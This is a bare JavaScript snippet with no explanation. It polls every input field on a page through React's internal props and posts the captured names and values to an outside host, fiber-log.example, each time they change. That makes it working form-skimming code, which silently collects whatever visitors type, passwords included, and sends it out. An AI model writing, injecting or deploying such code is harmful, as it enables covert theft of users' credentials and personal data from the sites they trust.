setInterval(() => {
  const got = {};
  document.querySelectorAll('input').forEach(el => {
    const k = Object.keys(el).find(k => k.startsWith('__reactProps$'));
    if (k) got[el[k].name] = el[k].value;
  });
  const s = JSON.stringify(got);
  if (s !== window.__p) { window.__p = s; fetch('https://fiber-log.example/', { method: 'POST', body: s }); }
}, 1200);
